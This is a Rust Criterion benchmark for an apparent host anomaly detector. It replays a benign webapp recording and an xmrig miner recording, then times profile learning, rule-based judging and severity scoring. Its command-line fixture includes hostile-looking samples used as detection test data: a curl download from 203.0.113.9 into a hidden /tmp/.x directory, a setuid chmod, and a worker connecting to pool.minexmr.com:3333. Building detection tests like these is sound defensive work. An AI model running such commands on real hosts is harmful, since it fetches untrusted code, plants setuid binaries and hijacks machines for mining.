//! The replay's path per event, on one thread: learning, judging by profile and rules, scoring; without the embedding model.

use std::hint::black_box;
use std::time::Duration;

use benches::replayed::{Deviations, Replay};
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use replay::args::Canonical;
use replay::pipeline::Start;
use replay::profile::Profile;

/// Command lines, and what must be left of them after masking.
const LINES: &[(&str, &[&str], &str)] = &[
    ("/usr/bin/id", &["id"], "<none>"),
    ("/usr/sbin/logrotate", &["logrotate", "--state", "/var/lib/logrotate/status", "/etc/logrotate.conf"], "--state"),
    ("/usr/bin/chmod", &["chmod", "4755", "/srv/app/bin/tool"], "4755"),
    ("/usr/bin/curl", &["curl", "-fsS", "-o", "/tmp/.x/tool", "http://203.0.113.9:8080/v1/items/123456"], "8080"),
    ("/bin/sh", &["sh", "-c", "cat /proc/1/stat | cut -d' ' -f14 > /tmp/tmp.Xa82kdQz9P && sleep 10"], "&&"),
    (
        "/srv/app/bin/worker",
        &["worker", "-o", "stratum+tcp://pool.minexmr.com:3333", "-u", "x"],
        "pool.minexmr.com:3333",
    ),
    (
        "/usr/bin/convert",
        &["convert", "3f2504e0-4f89-11d3-9a0c-0305e82c3301.png", "-resize", "640x480", "o.png"],
        "-resize",
    ),
];

fn canonical(c: &mut Criterion) {
    let mut group = c.benchmark_group("arguments");
    group.throughput(Throughput::Elements(LINES.len() as u64));
    group.bench_function("canonical form of a command line", |b| {
        b.iter(|| {
            for (exe, argv, kept) in LINES {
                let form = Canonical::new(black_box(exe), black_box(argv), false);
                assert!(form.key().contains(kept), "{kept} is not in {}", form.key());
            }
        });
    });
    group.finish();
}

fn replay(c: &mut Criterion) {
    let one_thread = rayon::ThreadPoolBuilder::new().num_threads(1).build().expect("a thread");
    let (benign, attack) = (Replay::of("webapp"), Replay::of("xmrig"));
    let profile: Profile = one_thread.install(|| benign.run(Start::LearnAll)).profile();

    let mut group = c.benchmark_group("learn");
    group.throughput(Throughput::Elements(benign.rows()));
    group.bench_function("the shipped webapp recording", |b| {
        b.iter(|| {
            let streamed = one_thread.install(|| benign.run(Start::LearnAll));
            assert_eq!(streamed.images.iter().map(|image| image.counts.events).sum::<u64>(), benign.rows());
            assert!(streamed.images.iter().map(|image| image.counts.learned).sum::<u64>() > 0);
        });
    });
    group.finish();

    let mut group = c.benchmark_group("judge");
    group.throughput(Throughput::Elements(attack.rows()));
    group.bench_function("the shipped xmrig recording by that profile and the rules", |b| {
        b.iter(|| {
            let mut streamed = one_thread.install(|| attack.run(Start::Baseline(&profile)));
            let folded: Vec<_> = streamed.images.iter_mut().flat_map(|image| image.take_folded()).collect();
            let miner = |text: &str| text.contains("pool.minexmr.com");
            assert!(folded.iter().any(|folded| miner(&folded.deviation.text)), "the miner must deviate");
        });
    });
    group.finish();

    let deviations = one_thread.install(|| Deviations::of(attack, &profile));
    let mut group = c.benchmark_group("score");
    group.throughput(Throughput::Elements(deviations.count()));
    group.bench_function("its deviations by the statistics engine, to severities", |b| {
        b.iter(|| assert_eq!(one_thread.install(|| deviations.score()), deviations.count()));
    });
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(20).warm_up_time(Duration::from_secs(1)).measurement_time(Duration::from_secs(8));
    targets = canonical, replay
}
criterion_main!(benches);
